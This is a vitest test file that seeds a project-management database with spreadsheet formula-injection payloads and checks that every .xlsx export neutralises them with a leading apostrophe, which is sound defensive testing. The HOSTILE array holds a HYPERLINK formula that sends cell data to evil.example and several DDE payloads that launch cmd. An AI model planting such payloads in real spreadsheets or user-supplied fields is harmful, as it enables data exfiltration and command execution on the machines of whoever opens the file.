// Every .xlsx export, fed names and notes that a spreadsheet would run: text beginning with = + - @,
// or with a tab or carriage return before them. Each export is read back with ExcelJS: no cell is a
// formula, no text cell begins with those characters, and the hostile text arrived, with the
// apostrophe in front (src/server/io/ledger-sheet.ts `neutralise`; the import strips it again).
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildTestApp, type TestApp } from '../helpers/app.ts';
import { REGIONS } from '../helpers/factories.ts';
import { insertMilestone } from '../helpers/reporting.ts';
import { buildFixture, type Fixture } from './fixture.ts';

/** Every hostile text carries this marker, so its cells can be found in any export. */
const MARK = '恶意';
const HOSTILE = [
  `=HYPERLINK("http://evil.example/?"&A1,"${MARK}点此")`,
  `+cmd|' /C calc'!A0${MARK}`,
  `-2+3+cmd|' /C calc'!A0${MARK}`,
  `@SUM(1+9)*cmd|' /C calc'!A0${MARK}`,
  `\t=1+1${MARK}`,
  `\r=1+1${MARK}`,
];
const hostile = (i: number) => HOSTILE[i % HOSTILE.length]!;
const TRIGGER = /^[=+\-@\t\r]/;

let t: TestApp;
let f: Fixture;

beforeAll(async () => {
  t = await buildTestApp();
  f = await buildFixture(t);
  const q = (text: string, params: unknown[] = []) => t.database.pool.query(text, params);
  // Names and notes every export carries, each given one of the hostile texts.
  const { rows: projects } = await q(`select id from projects order by code`);
  for (const [i, p] of projects.entries()) {
    await q(`update projects set name = $2, construction_content = $3, address = $4, tags = array[$5] where id = $1`,
      [p.id, `${hostile(i)}${i}`, hostile(i + 1), hostile(i + 2), hostile(i + 3)]);
  }
  const { rows: orgs } = await q(`select id from organizations order by name`);
  for (const [i, o] of orgs.entries()) await q(`update organizations set name = $2 where id = $1`, [o.id, `${hostile(i + 4)}${i}`]);
  const { rows: people } = await q(`select id from people order by name`);
  for (const [i, p] of people.entries()) await q(`update people set name = $2 where id = $1`, [p.id, `${hostile(i + 5)}${i}`]);
  await q(`update projects set leader_person_id = (select id from people limit 1), responsible_org_id = (select id from organizations limit 1)`);
  await q(`update problems set title = $1, description = $2, escalation_level = 3`, [hostile(0), hostile(1)]);
  await q(`update supervision_orders set reason = $1, response = $2`, [hostile(2), hostile(3)]);
  await q(`update accountability_entries set participants = $1, outcome = $2`, [hostile(4), hostile(5)]);
  await q(`update batches set name = $1`, [hostile(0)]);
  await insertMilestone(t.database.db, { projectId: f.ids.project, name: hostile(3), kind: 'other', plannedDate: '2024-10-01' });
  const procedures = await f.office.put(`/api/v1/projects/${f.ids.project}/procedures`, { items: [{ name: hostile(1), plannedDate: '2024-08-01', authority: hostile(2) }] });
  expect(procedures.statusCode, procedures.body).toBe(200);
  // A bulletin freezes its names when issued: issue one now that the names are hostile.
  await q(`delete from bulletins`);
  const bulletin = await f.office.post('/api/v1/bulletins', { regionCode: REGIONS.city.code, periodId: f.ids.june });
  expect(bulletin.statusCode, bulletin.body).toBe(201);
  f.ids.bulletin = bulletin.json().id;
}, 120_000);
afterAll(() => t.close());

const EXPORTS: [string, () => string][] = [
  ['ledger', () => '/api/v1/ledger/export.xlsx?year=2024'],
  ['ledger template', () => '/api/v1/ledger/template.xlsx'],
  ['statistics by project', () => `/api/v1/stats.xlsx?region=${REGIONS.city.code}&year=2024&month=6&groupBy=project`],
  ['statistics by leader', () => `/api/v1/stats.xlsx?region=${REGIONS.city.code}&year=2024&month=6&groupBy=leader`],
  ['statistics by unit', () => `/api/v1/stats.xlsx?region=${REGIONS.city.code}&year=2024&month=6&groupBy=unit`],
  ['statistics by batch', () => `/api/v1/stats.xlsx?region=${REGIONS.city.code}&year=2024&month=6&groupBy=batch`],
  ['standard statistics table', () => `/api/v1/stats/standard.xlsx?region=${REGIONS.city.code}&year=2024&month=6`],
  ['period table', () => `/api/v1/periods/${f.ids.july}/projects.xlsx`],
  ['reminders', () => `/api/v1/periods/${f.ids.july}/reminders.xlsx`],
  ['supervision orders', () => '/api/v1/supervision-orders.xlsx'],
  ['accountability list', () => '/api/v1/accountability.xlsx'],
  ['dispatch list', () => '/api/v1/problems/dispatch.xlsx'],
  ['project timeline', () => `/api/v1/projects/${f.ids.project}/gantt.xlsx`],
  ['timelines of a region', () => `/api/v1/gantt.xlsx?region=${REGIONS.city.code}`],
  ['bulletin annex', () => `/api/v1/bulletins/${f.ids.bulletin}.xlsx`],
];

/** Text of a cell as a spreadsheet holds it (rich text joined), or null for other values. */
function cellText(cell: ExcelJS.Cell): string | null {
  const v = cell.value;
  if (typeof v === 'string') return v;
  if (v && typeof v === 'object' && 'richText' in v) return v.richText.map((r) => r.text).join('');
  if (v && typeof v === 'object' && 'text' in v && typeof v.text === 'string') return v.text;
  return null;
}

describe('no export lets a spreadsheet run a formula', () => {
  for (const [name, url] of EXPORTS) {
    it(name, async () => {
      const res = await f.admin.get(url());
      expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
      const hostileCells: string[] = [];
      const problems: string[] = [];
      for (const ws of wb.worksheets) {
        ws.eachRow({ includeEmpty: false }, (row) => {
          row.eachCell({ includeEmpty: false }, (cell) => {
            const at = `${ws.name}!${cell.address}`;
            if (cell.type === ExcelJS.ValueType.Formula || cell.formula) problems.push(`${at} is a formula: ${cell.formula}`);
            const text = cellText(cell);
            if (text === null) return;
            if (TRIGGER.test(text)) problems.push(`${at} begins with ${JSON.stringify(text.slice(0, 12))}`);
            if (text.includes(MARK)) hostileCells.push(text);
          });
        });
      }
      expect(problems).toEqual([]);
      if (name === 'ledger template') return;
      // The hostile text reached the export, kept whole behind the apostrophe.
      expect(hostileCells.length, 'hostile names in the export').toBeGreaterThan(0);
      // (An XML reader turns a carriage return into a line feed: that is the file format, not the export.)
      const mangled = hostileCells.filter((x) => x.startsWith("'") && !HOSTILE.some((h) => x.slice(1).startsWith(h.replace('\r', '\n'))));
      expect(mangled, 'neutralised text kept whole').toEqual([]);
      expect(hostileCells.some((x) => x.startsWith("'"))).toBe(true);
    });
  }
});
